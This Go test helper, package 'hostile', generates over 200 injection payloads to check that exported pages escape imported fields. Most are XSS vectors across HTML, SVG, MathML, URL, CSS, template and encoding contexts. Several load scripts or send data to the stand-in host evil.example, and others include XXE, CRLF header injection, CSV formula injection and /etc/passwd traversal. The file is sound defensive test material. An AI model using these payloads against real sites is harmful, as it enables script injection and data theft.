// Package hostile makes exports that attack whoever shows them: every field an
// import can fill holds, in turn, each of more than 200 strings that run, load
// or send something where a page forgets to escape. Only tests use it.
package hostile

import "slices"

// Vectors are strings that run something in text, attributes, addresses, style,
// script, SVG, MathML, comments, templates, or in what our own script reads out
// of a page. What they run is alert(1); what they load or send goes to
// evil.example. No two are the same.
func Vectors() []string {
	return slices.Concat(elements(), handlers(), vectorGraphics(), addresses(), mutations(), contexts(), islands(), disguises())
}

// elements run, load or send as soon as they are parsed.
func elements() []string {
	return []string{
		`<script>alert(1)</script>`, `</title><script>alert(1)</script>`, `"><script>alert(1)</script>`, `'><script>alert(1)</script>`,
		`<script src=//evil.example/x.js></script>`, `<script type=module>alert(1)</script>`, `<script>alert(1)//`, `<script/x>alert(1)</script>`, `<SCRIPT>alert(1)</SCRIPT >`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`, `<script async src="data:text/javascript,alert(1)"></script>`, `<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
		`<script type="importmap">{"imports":{"x":"https://evil.example/x.js"}}</script>`, `<script nomodule>alert(1)</script>`,
		`<iframe src=javascript:alert(1)>`, `<iframe srcdoc="<script>alert(1)</script>">`, `<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">`, `<iframe src="data:text/html,<script>parent.alert(1)</script>">`,
		`<iframe src=//evil.example/ name=x>`, `<frameset onload=alert(1)>`, `<frame src=javascript:alert(1)>`, `<object data=javascript:alert(1)>`, `<object data="data:text/html,<script>alert(1)</script>">`,
		`<object type="text/html" data=//evil.example/></object>`, `<embed src=javascript:alert(1)>`, `<embed src=//evil.example/x.swf>`, `<applet code=x archive=//evil.example/x.jar>`,
		`<base href=//evil.example/>`, `<base target=_top>`, `<meta http-equiv=refresh content="0;url=//evil.example">`, `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
		`<meta http-equiv=Content-Security-Policy content="script-src *">`, `<meta charset=utf-7>`, `<meta name=referrer content=unsafe-url>`,
		`<link rel=stylesheet href=//evil.example/x.css>`, `<link rel=preload as=script href=//evil.example/x.js>`, `<link rel=prefetch href=//evil.example/>`, `<link rel=dns-prefetch href=//evil.example>`,
		`<link rel=preconnect href=//evil.example>`, `<link rel=modulepreload href=//evil.example/m.js>`, `<link rel=icon href=//evil.example/i.ico>`, `<link rel=import href=//evil.example/i.html>`,
		`<style>@import '//evil.example';</style>`, `<style>*{background:url(//evil.example/b)}</style>`, `<style>@font-face{font-family:x;src:url(//evil.example/f)}*{font-family:x}</style>`,
		`<form action=//evil.example><input type=submit>`, `<form action=javascript:alert(1)><button>x</button></form>`, `<button form=x formaction=javascript:alert(1)>x</button>`, `<input type=image src=//evil.example/x.png>`,
		`<img src=//evil.example/x.png>`, `<img srcset="//evil.example/x.png 1x">`, `<picture><source srcset=//evil.example/p.png><img src=x></picture>`, `<video poster=//evil.example/p.png>`, `<video src=//evil.example/v.mp4 autoplay>`,
		`<audio src=//evil.example/a.mp3 preload=auto>`, `<track src=//evil.example/t.vtt default>`, `<table background=//evil.example/t.png>`, `<body background=//evil.example/b.png>`, `<a href=x ping=//evil.example/ping>x</a>`,
		`<template shadowrootmode=open><script>alert(1)</script></template>`, `<fencedframe></fencedframe>`, `<portal src=//evil.example></portal>`, `<html manifest=//evil.example/m>`,
	}
}

// handlers run by an attribute, most of them without anybody's doing.
func handlers() []string {
	return []string{
		`<img src=x onerror=alert(1)>`, `"><img src=x onerror=alert(1)>`, `'><img src=x onerror=alert(1)>`, `<img/src=x/onerror=alert(1)>`, "<img src=x onerror=alert`1`>", `<img src=x onerror="&#97;lert(1)">`,
		`<img src=x onerror=window['al'+'ert'](1)>`, `<img src=x OnErRoR=alert(1)>`, "<img\nsrc=x\nonerror=alert(1)\n>", "<img\x0csrc=x\x0conerror=alert(1)>", `<img src="x` + "`" + `onerror=alert(1)>`, `<image src=x onerror=alert(1)>`,
		`' onmouseover='alert(1)`, `" onfocus="alert(1)" autofocus="`, `" onfocus=alert(1) autofocus tabindex=0 x="`, "` onmouseover=alert(1) `", `x onmouseover=alert(1) y`, `"onclick="alert(1)"`, `'/onclick='alert(1)'/'`,
		`<input onfocus=alert(1) autofocus>`, `<select onfocus=alert(1) autofocus>`, `<textarea onfocus=alert(1) autofocus>`, `<button onfocus=alert(1) autofocus>`, `<keygen onfocus=alert(1) autofocus>`, `<x onfocus=alert(1) tabindex=1 autofocus>`,
		`<details open ontoggle=alert(1)>`, `<details ontoggle=alert(1) open><summary>x`, `<dialog open onbeforetoggle=alert(1)>`, `<div popover id=p onbeforetoggle=alert(1)></div>`,
		`<video><source onerror=alert(1)>`, `<video src=x onerror=alert(1)>`, `<audio src=x onerror=alert(1)>`, `<audio controls onloadstart=alert(1) src=x>`, `<video onloadstart=alert(1)><source src=x>`,
		`<body onload=alert(1)>`, `<body onpageshow=alert(1)>`, `<body onresize=alert(1)>`, `<body onhashchange=alert(1)>`, `<body onscroll=alert(1)>`, `<body onmessage=alert(1)>`, `<body onpopstate=alert(1)>`,
		`<marquee onstart=alert(1)>`, `<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>`, `<object data=x onerror=alert(1)>`, `<link rel=stylesheet href=x onerror=alert(1)>`, `<script src=x onerror=alert(1)></script>`, `<iframe onload=alert(1)>`,
		`<embed src=x onload=alert(1)>`, `<style onload=alert(1)></style>`, `<link rel=stylesheet href="data:text/css," onload=alert(1)>`, `<input type=image src=x onerror=alert(1)>`, `<isindex type=image src=x onerror=alert(1)>`,
		`<x contenteditable onblur=alert(1)>`, `<p onwheel=alert(1)>scroll</p>`, `<p oncopy=alert(1)>copy</p>`, `<p onpointerrawupdate=alert(1)>x</p>`, `<p onpointerover=alert(1) style=position:fixed;inset:0>x</p>`, `<p ondragstart=alert(1) draggable=true>x</p>`,
		`<p onbeforematch=alert(1) hidden=until-found>x</p>`, `<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(1)>`, `<p style="transition:color 1s" ontransitionend=alert(1)>`, `<p onsecuritypolicyviolation=alert(1)><img src=//evil.example/v>`,
		`<form onformdata=alert(1)><button>x</button></form>`, `<form><input oninvalid=alert(1) required></form>`, `<slot onslotchange=alert(1)>`, `<video autoplay onplay=alert(1)><source src="data:video/mp4,">`,
	}
}

// vectorGraphics use what SVG and MathML can.
func vectorGraphics() []string {
	return []string{
		`<svg onload=alert(1)>`, `<svg/onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<svg><script>alert&#40;1)</script></svg>`, `<svg><script href="data:text/javascript,alert(1)"/></svg>`, `<svg><script xlink:href=//evil.example/s.js /></svg>`,
		`<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<svg><set onbegin=alert(1) attributeName=x to=1>`, `<svg><animateTransform onbegin=alert(1) attributeName=transform>`, `<svg><animateMotion onbegin=alert(1) dur=1s>`,
		`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`, `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`, `<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>`,
		`<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>`, `<svg><use href=//evil.example/u.svg#x /></svg>`, `<svg><image href=//evil.example/i.png onerror=alert(1) /></svg>`, `<svg><image href=x onerror=alert(1) /></svg>`,
		`<svg><feImage href=//evil.example/f.png /></svg>`, `<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`, `<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>`, `<svg><style>@import '//evil.example/s.css'</style></svg>`,
		`<svg><title><img src=x onerror=alert(1)></title></svg>`, `<svg><desc><script>alert(1)</script></desc></svg>`, `</text></svg><script>alert(1)</script>`, `"/></svg><svg onload=alert(1)>`, `<svg><discard onbegin=alert(1)>`, `<svg><text onclick=alert(1)>x</text></svg>`,
		`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`, `<!DOCTYPE svg [<!ENTITY x SYSTEM "http://evil.example/e">]><svg>&x;</svg>`, `<?xml-stylesheet href="//evil.example/x.xsl"?>`,
		`<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`, `<math href="javascript:alert(1)">x</math>`, `<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>`, `<math onfocus=alert(1) tabindex=0 autofocus>`,
	}
}

// addresses run, or lead elsewhere, where one is taken for a link.
func addresses() []string {
	return []string{
		`<a href="javascript:alert(1)">x</a>`, `<area href=javascript:alert(1)>`, `<a href=" javascript:alert(1)">x</a>`, "<a href=\"java\nscript:alert(1)\">x</a>", `<a href="javascript&colon;alert(1)">x</a>`, `<a href=javascript:alert(1) target=_blank>x</a>`,
		`javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)", "java\nscript:alert(1)", "java\rscript:alert(1)", "\x01javascript:alert(1)", "\x1fjavascript:alert(1)", ` javascript:alert(1)`, "\u00a0javascript:alert(1)", "javascript\u200b:alert(1)",
		`&#106;avascript:alert(1)`, `&#x6A;avascript:alert(1)`, `javascript&colon;alert(1)`, `javascript:%61lert(1)`, `javascript://%0aalert(1)`, `javascript://evil.example/%0aalert(1)`, `javascript:/*--></title>*/alert(1)`, `javascript:"<script>alert(1)</script>"`, `jav&Tab;ascript:alert(1)`,
		`data:text/html,<script>alert(1)</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>`, `data:text/javascript,alert(1)`, `data:,x`, `vbscript:msgbox(1)`, `livescript:alert(1)`, `mocha:alert(1)`,
		`//evil.example/x`, `\\evil.example\x`, `/\evil.example/x`, `///evil.example/x`, "/\t/evil.example/x", `https:evil.example`, `http:javascript:alert(1)`, `https://evil.example/" onclick="alert(1)`, `https://evil.example/'><script>alert(1)</script>`,
		`https://a@evil.example/`, `https://localhost@evil.example/`, `https://evil.example\@localhost/`, `https://evil.example#@localhost/`, `view-source:javascript:alert(1)`, `feed:javascript:alert(1)`, `blob:null/x`, `filesystem:http://evil.example/`, `file:///etc/passwd`, `jar:http://evil.example!/x`,
		`intent://evil.example#Intent;scheme=https;end`, `tg://resolve?domain=x`, `mailto:x@evil.example?body=%0d%0ax`, `https://evil.example/%0d%0aSet-Cookie:x=1`, `https://xn--vil-wna.example/`, `https://evil。example/`, `../../../../etc/passwd`, `..\..\x`, `/s/../../static/x`,
	}
}

// mutations mean one thing to a cleaner and another to a browser.
func mutations() []string {
	return []string{
		`<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`, `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<template><script>alert(1)</script></template>`, `<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">`,
		`<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">`, `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`, `<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>`,
		`<table><td><svg><desc><td><title></title><img src=x onerror=alert(1)>`, `<select><template><img src=x onerror=alert(1)></template></select>`, `<select><iframe></select><img src=x onerror=alert(1)>`, `<listing>&lt;img src=x onerror=alert(1)&gt;</listing>`, `<xmp></xmp><img src=x onerror=alert(1)>`,
		`<plaintext><img src=x onerror=alert(1)>`, `<noembed><p title="</noembed><img src=x onerror=alert(1)>">`, `<noframes><p title="</noframes><img src=x onerror=alert(1)>">`, `<iframe><p title="</iframe><img src=x onerror=alert(1)>">`, `<textarea><p title="</textarea><img src=x onerror=alert(1)>">`,
		`<title><p title="</title><img src=x onerror=alert(1)>">`, `<!--><script>alert(1)</script>-->`, `<!---><script>alert(1)</script>-->`, `<!--!><script>alert(1)</script>--!>`, `<!-- --!><img src=x onerror=alert(1)>`, `--><script>alert(1)</script>`, `--!><script>alert(1)</script>`, `]]><script>alert(1)</script>`,
		`<![if IE]><script>alert(1)</script><![endif]>`, `<%<!--'%><script>alert(1);</script -->`, `<? foo="><script>alert(1)</script>">`, `<! foo="><script>alert(1)</script>">`, `</ foo="><script>alert(1)</script>">`, `<a <!-- --> href="javascript:alert(1)">x</a>`, `<<script>alert(1)</script>`, `<x/><script>alert(1)</script>`,
	}
}

// contexts break out of where a page may have put them.
func contexts() []string {
	return []string{
		`</textarea><script>alert(1)</script>`, `</style><script>alert(1)</script>`, `</script><script>alert(1)</script>`, `</option></select><img src=x onerror=alert(1)>`, `</bdi><img src=x onerror=alert(1)>`, `</p></article><script>alert(1)</script>`, `</td></tr></table><script>alert(1)</script>`, `</noscript><script>alert(1)</script>`,
		`{{.}}`, `{{template "layout.tmpl"}}`, `{{define "main"}}<script>alert(1)</script>{{end}}`, `${alert(1)}`, `#{alert(1)}`, `<%= alert(1) %>`, `{{constructor.constructor('alert(1)')()}}`, `[[alert(1)]]`, "`-alert(1)-`", `';alert(1)//`, `";alert(1)//`, `\";alert(1)//`, `'-alert(1)-'`, `</script><svg onload=alert(1)>`,
		`*/alert(1)/*`, `//]]>alert(1)`, `x;background:url(javascript:alert(1))`, `x;background:url(//evil.example/css)`, `expression(alert(1))`, `}*{background:url(//evil.example/css2)}`, `<p style="background:url(//evil.example)">`, `<p style="behavior:url(//evil.example)">`, `<p style="-moz-binding:url(//evil.example)">`,
		"x\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>", "x\r\nLocation: //evil.example", `"}]}</script><script>alert(1)</script>`, `{"__proto__":{"x":1}}`, `__proto__`, `constructor`, `%3Cscript%3Ealert(1)%3C/script%3E`, `%253Cscript%253Ealert(1)%253C/script%253E`, `=cmd|'/c calc'!A1`, `@import url(//evil.example)`,
	}
}

// islands abuse what our own script reads out of a page.
func islands() []string {
	return []string{
		`<button data-key="j" onclick=alert(1)>x</button>`, `<a data-key="g s" href="javascript:alert(1)">x</a>`, `" data-key="j" onclick="alert(1)`, `<a aria-keyshortcuts="k" href=//evil.example>x</a>`, `<p data-row data-preview="//evil.example/p">x</p>`, `<p data-row data-preview="javascript:alert(1)">x</p>`,
		`<dl-live data-src="//evil.example/events"></dl-live>`, `<dl-live data-src="data:text/event-stream,data:{}"></dl-live>`, `<dl-palette data-search="//evil.example/"><dialog open><form><input></form><ul></ul></dialog></dl-palette>`, `<dl-drop><form action=//evil.example method=post><input type=file></form></dl-drop>`,
		`<button commandfor=x command=show-modal>x</button><dialog id=x onbeforetoggle=alert(1)>`, `<button popovertarget=x>x</button><div id=x popover ontoggle=alert(1)>`, `<div data-preview-pane></div>`, `<a id=main href=x>`, `<form name=body><input name=hidden>`, `<img name=documentElement>`, `<input name=querySelectorAll>`,
		`<a id=trustedTypes><a id=trustedTypes name=emptyHTML>`, `<img name=currentScript src=//evil.example>`, `<form id=location href=//evil.example>`,
	}
}

// disguises are encoded, padded or made of characters that look like others.
func disguises() []string {
	return []string{
		"<scr\x00ipt>alert(1)</scr\x00ipt>", "<\x00script>alert(1)</script>", `＜script＞alert(1)＜/script＞`, `﹤script﹥alert(1)﹤/script﹥`, `+ADw-script+AD4-alert(1)+ADw-/script+AD4-`, `\u003cscript\u003ealert(1)\u003c/script\u003e`, `\x3cscript\x3ealert(1)\x3c/script\x3e`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `&amp;lt;script&amp;gt;alert(1)`,
		"\u2028alert(1)\u2029", "\u202e<script>alert(1)</script>", "\u2067<img src=x onerror=alert(1)>\u2069", "<img src=x onerror\u200f=alert(1)>", "\ufeff<script>alert(1)</script>", "<ſcript>alert(1)</ſcript>", "<ıframe src=javascript:alert(1)>", "\u0130<img src=x onerror=alert(1)>", "نص <img src=x onerror=alert(1)> نص",
		`<bdi dir=rtl onclick=alert(1)>`, `<bdo dir=rtl onmouseover=alert(1)>x</bdo>`, "<img src=x onerror=\u2028alert(1)>", "\xf0<script>alert(1)</script>", "%c0%bcscript%c0%bealert(1)", `&#0000060script&#0000062alert(1)`, `&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;`, `&LT;script&GT;alert(1)&LT;/script&GT;`, `PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
		"<a href=\"\x0bjavascript:alert(1)\">x</a>", `<img src=1 href=1 onerror="javascript:alert(1)"></img>`, `<isindex action=javascript:alert(1)>`, `<!ENTITY % x SYSTEM "http://evil.example/x.dtd">`, `¼script¾alert(1)¼/script¾`,
	}
}
